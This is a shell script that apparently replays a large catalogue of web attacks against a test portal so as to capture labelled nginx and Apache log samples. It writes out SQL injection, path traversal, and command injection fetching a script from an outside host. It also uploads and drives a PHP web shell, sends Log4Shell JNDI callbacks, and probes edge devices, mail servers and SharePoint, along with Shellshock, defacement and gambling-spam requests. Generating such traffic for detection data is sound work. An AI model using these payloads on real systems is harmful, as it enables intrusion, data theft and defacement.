# Scans, exploits and what intruders do on a portal. The server answers as it does: mostly 404.

hit() { # hit URL [CURL_OPTION...]: raw path, from the scanning address
    url=$1
    shift
    curl -s -o /dev/null --max-time 20 --path-as-is -g --interface 198.51.100.9 \
        -A 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' \
        "$@" "http://$SERVER$url" || true
}

from 198.51.100.9
cut_begin web-scan
head -n 250 /usr/share/dirb/wordlists/small.txt > /tmp/words.txt
timeout 60 dirb "http://$SERVER/" /tmp/words.txt -S -w -r > /dev/null 2>&1 || true
cut_end web-scan nginx/access.log nginx/error.log

cut_begin web-scanner-agents
for agent in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' \
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' 'Mozilla/5.0 zgrab/0.x' 'masscan/1.3' \
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' 'gobuster/3.6' 'Fuzz Faster U Fool v2.1.0-dev' \
    'Acunetix-Aspect'; do
    hit / -A "$agent"
done
cut_end web-scanner-agents nginx/access.log

cut_begin web-sqlmap
timeout 90 sqlmap -u "http://$SERVER/tin-tuc.php?id=1" --batch --level 1 --risk 1 --threads 1 --flush-session \
    --dbms sqlite --dump -T can_bo --output-dir /tmp/sqlmap > /dev/null 2>&1 || true
cut_end web-sqlmap nginx/access.log

cut_begin web-sql-injection
hit "/tin-tuc.php?id=1'"
hit "/tin-tuc.php?id=1%20UNION%20SELECT%20ten,mat_khau%20FROM%20can_bo--"
hit "/tin-tuc.php?id=-1+union+all+select+sqlite_version(),2"
hit "/tin-tuc.php?id=1%27%20OR%20%271%27=%271"
hit "/tin-tuc.php?id=1;WAITFOR%20DELAY%20%270:0:5%27--"
hit "/tin-tuc.php?id=1%20AND%20(SELECT%209%20FROM%20(SELECT(SLEEP(5)))a)"
hit "/tin-tuc.php?id=1%20and%20extractvalue(1,concat(0x7e,version()))"
cut_end web-sql-injection nginx/access.log

cut_begin web-path-traversal
hit '/tai-ve.php?tep=../../../../etc/passwd'
hit '/tai-ve.php?tep=..%2f..%2f..%2f..%2fetc%2fshadow'
hit '/../../../../../../etc/passwd'
hit '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'
hit '/tai-ve.php?tep=....//....//....//windows/win.ini'
hit '/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd'
cut_end web-path-traversal nginx/access.log nginx/error.log

cut_begin web-command-injection
hit '/kiem-tra-mang.php?may=127.0.0.1;id'
hit '/kiem-tra-mang.php?may=127.0.0.1%7Cwhoami'
hit '/kiem-tra-mang.php?may=%24(cat%20/etc/passwd)'
hit '/kiem-tra-mang.php?may=127.0.0.1%0Awget%20http://198.51.100.66/x.sh%20-O%20/tmp/k.sh'
hit '/kiem-tra-mang.php?may=%60uname%20-a%60'
cut_end web-command-injection nginx/access.log

cut_begin web-shell
echo '<?php system($_REQUEST["cmd"] ?? "id");' > /tmp/anh-bia.php
hit /gui-van-ban.php -F 'tep=@/tmp/anh-bia.php;type=image/jpeg'
for command in id whoami 'uname%20-a' 'cat%20/etc/passwd' 'ls%20-la%20/srv' 'ps%20aux' 'netstat%20-an' \
    'curl%20-s%20http://198.51.100.66/x.sh%20-o%20/tmp/k.sh' 'chmod%20%2Bx%20/tmp/k.sh' \
    'crontab%20-l' 'tar%20czf%20/srv/portal/uploads/du-lieu.zip%20/srv/portal/portal.db'; do
    hit "/uploads/anh-bia.php?cmd=$command"
done
hit /uploads/anh-bia.php -d 'cmd=id'
hit /uploads/du-lieu.zip
cp /tmp/anh-bia.php /srv/portal/c99.php
hit '/c99.php'
rm /srv/portal/c99.php
for name in wso.php r57.php b374k.php alfa.php cmd.jsp shell.aspx chopper.php mini.php; do
    hit "/$name"
done
cut_end web-shell nginx/access.log nginx/error.log

cut_begin web-exploits-mail
hit '/autodiscover/autodiscover.json?@xa.example/owa/?&Email=autodiscover/autodiscover.json%3F@xa.example'
hit '/autodiscover/autodiscover.json?a@foo.var/powershell/?X-Rps-CAT=AAAA&Email=autodiscover/autodiscover.json%3Fa@foo.var'
hit '/ecp/y.js' -b 'X-BEResource=localhost~1942062522'
hit '/ecp/proxyLogon.ecp' -d x
hit '/owa/auth/x.js'
hit '/aspnet_client/supp0rt.aspx'
hit '/owa/auth/errorEE.aspx'
hit '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1' -d x
hit '/h/search?sq=%3Cscript%3Ealert(1)%3C/script%3E'
hit '/zimbraAdmin/cmd.jsp'
hit '/zimbra/public/jsp/ldap.jsp'
hit '/?_task=settings&_action=upload&_from=edit-!xxx&_id=1' -F 'f=@/tmp/anh-bia.php'
cut_end web-exploits-mail nginx/access.log

cut_begin web-exploits-edge
hit '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'
hit '/remote/hostcheck_validate' -d 'enc=AAAAAAAAAAAAAAAA'
hit '/remote/logincheck' -d 'ajax=1&username=a&realm=&credential=b'
hit '/api/v2/cmdb/system/admin/admin' -A 'Report Runner' -H 'Forwarded: for="[127.0.0.1]:8000"' -X PUT -d '{}'
hit '/api/v2/cmdb/system/admin?local_access_token=x'
hit '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/'
hit '/api/v1/totp/user-backup-code/../../system/system-information'
hit '/api/v1/totp/user-backup-code/../../license/keys-status/%3bid'
hit '/dana-ws/saml20.ws' -d '<x/>'
hit '/vpn/../vpns/cfg/smb.conf'
hit '/oauth/idp/.well-known/openid-configuration'
hit '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'
hit '/mgmt/tm/util/bash' -d '{"command":"run","utilCmdArgs":"-c id"}'
hit '/ssl-vpn/hipreport.esp' -b 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x' -d x
hit '/php/utils/createRemoteAppwebSession.php/watchTowr.js.map' -d x
hit '/unauth/php/change_password.php/x.css'
hit '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../'
hit '/webui/logoutconfirm.html?logon_hash=1' -d x
hit '/cgi-bin/luci/;stok=/locale?form=country' -d 'operation=write&country=$(id)'
hit '/ztp/cgi-bin/handler' -d '{"command":"setWanPortSt","vlan_tagged":";id"}'
hit '/sonicui/7/login/' -d x
hit '/__api__/v1/logon/x/y' -d x
hit '/userportal/webpages/myaccount/login.jsp'
hit '/ui/vropspluginui/rest/services/uploadova' -d x
hit '/hybridity/ph/../telemetry/api'
cut_end web-exploits-edge nginx/access.log nginx/error.log

cut_begin web-exploits-sharepoint
hit '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx' -e "http://$SERVER/_layouts/SignOut.aspx" -d 'MSOTlPn_DWP=x'
hit '/_layouts/16/ToolPane.aspx?DisplayMode=Edit&foo=/ToolPane.aspx' -e '/_layouts/SignOut.aspx' -d x
hit '/_layouts/15/spinstall0.aspx'
hit '/_vti_bin/webpartpages.asmx' -d '<x/>'
cut_end web-exploits-sharepoint nginx/access.log

cut_begin web-exploits-java
hit '/?x=${jndi:ldap://198.51.100.66/a}'
hit / -A '${jndi:ldap://198.51.100.66:1389/a}'
hit / -e '${${lower:j}ndi:${lower:l}dap://198.51.100.66/b}'
hit '/?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.66%2Fa%7D'
hit '/index.action?redirect:%24%7B%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String%5B%5D%7B%27id%27%7D)).start()%7D'
hit '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/'
hit '/upload.action?(%23_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)'
hit '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bx%7Di'
hit '/actuator/gateway/routes/x' -d '{}'
hit '/actuator/heapdump'
hit '/actuator/env'
hit '/wls-wsat/CoordinatorPortType' -d '<x/>'
hit '/_async/AsyncResponseService' -d '<x/>'
hit '/console/css/%252e%252e%252fconsole.portal'
hit '/setup/setupadministrator.action'
hit '/pages/doenterpagevariables.action' -d 'queryString=x'
hit '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'
hit '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=x&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)'
hit '/api/jsonws/invoke' -d 'cmd={}'
hit '/api/jsonws/expandocolumn/add-column' -d 'x'
hit '/;/WEB-INF/web.xml'
hit '/manager/html' -u tomcat:tomcat
cut_end web-exploits-java nginx/access.log

cut_begin web-exploits-php
hit '/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'
hit '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' -d '<?php echo 1;'
hit '/_ignition/execute-solution' -d '{}'
hit '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax' -d x
hit '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php' -d x
hit '/wp-json/wp/v2/users'
hit '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)'
hit '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input' -d '<?php echo 1;'
hit '/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input' -d '<?php echo 1;'
hit '/api/jsonws/?a=1'
hit '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/k.php'
cut_end web-exploits-php nginx/access.log

cut_begin web-exploits-dotnet
hit '/Telerik.Web.UI.WebResource.axd?type=rau' -d x
hit '/Telerik.Web.UI.WebResource.axd?type=rau'
hit '/DesktopModules/Admin/RadEditorProvider/DialogHandler.aspx'
hit '/Providers/HtmlEditorProviders/Fck/fcklinkgallery.aspx'
hit '/DNN/Install/InstallWizard.aspx?__VIEWSTATE=x'
hit '/Portals/0/x.aspx;.jpg'
hit '/ckfinder/core/connector/aspx/connector.aspx?command=FileUpload&type=Files' -d x
hit '/FCKeditor/editor/filemanager/connectors/aspx/connector.aspx?Command=FileUpload' -d x
hit '/trace.axd'
hit '/web.config'
cut_end web-exploits-dotnet nginx/access.log

cut_begin web-sensitive-files
for name in .env .git/config .git/HEAD .svn/entries wp-config.php.bak config.php~ backup.sql db.sql.gz site.zip \
    .aws/credentials .ssh/id_rsa .DS_Store phpinfo.php server-status .htpasswd web.config.bak id_rsa; do
    hit "/$name"
done
cp /srv/portal/portal.db /srv/portal/backup.sql
cp /srv/portal/portal.db /srv/portal/sao-luu.zip
hit /backup.sql
hit /sao-luu.zip
rm /srv/portal/backup.sql /srv/portal/sao-luu.zip
cut_end web-sensitive-files nginx/access.log

cut_begin web-gambling
for page in nha-cai-uy-tin-so-1 ban-ca-doi-thuong casino-truc-tuyen tai-xiu-online game-bai-doi-thuong \
    soi-cau-xsmb link-vao-w88 ca-cuoc-bong-da no-hu-doi-thuong xoc-dia-online kubet-dang-nhap slot-gacor-hari-ini \
    da-ga-truc-tiep lo-de-online; do
    get 192.0.2.50 "$UA_GOOGLE" "/bai-viet.php?p=$page"
done
get 198.51.100.77 "$UA_PHONE" '/bai-viet.php?p=nha-cai-uy-tin-so-1' -e 'https://www.google.com/'
get 198.51.100.78 "$UA_PHONE" '/chuyen-huong.php?url=https://sunwin.example/dang-ky'
get 198.51.100.78 "$UA_PHONE" '/chuyen-huong.php?url=https%3A%2F%2Fgame-bai-doi-thuong.example%2F'
get 198.51.100.77 "$UA_PHONE" '/chuyen-huong.php?url=//go88.example/'
cut_end web-gambling nginx/access.log

cut_begin web-defacement
echo '<h1>Hacked by thu-nghiem</h1>' > /tmp/hacked.html
hit /dav/index.html -X PUT --data-binary @/tmp/hacked.html
hit /dav/0x.txt -T /tmp/hacked.html
hit /dav/x.php -T /tmp/anh-bia.php
hit /hacked.html -X PUT --data-binary @/tmp/hacked.html
hit /dav/index.html
cut_end web-defacement nginx/access.log nginx/error.log

cut_begin web-bulk-data
head -c 12000000 /dev/urandom > /srv/portal/uploads/du-lieu-dan-cu.bin
round=0
while [ $round -lt 10 ]; do
    hit /uploads/du-lieu-dan-cu.bin
    round=$((round + 1))
done
rm /srv/portal/uploads/du-lieu-dan-cu.bin
round=1
while [ $round -le 220 ]; do
    hit "/tin-tuc.php?id=$round"
    round=$((round + 1))
done
cut_end web-bulk-data nginx/access.log

cut_begin apache-scan
SERVER_NGINX=$SERVER
SERVER=$SERVER:8080
hit /
hit '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' -d 'echo; id'
hit '/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd'
hit '/.env'
hit '/.git/config'
hit '/phpmyadmin/index.php'
hit '/' -A '() { :; }; /bin/bash -c "id"'
hit '/?x=${jndi:ldap://198.51.100.66/a}'
SERVER=$SERVER_NGINX
cut_end apache-scan apache2/access.log
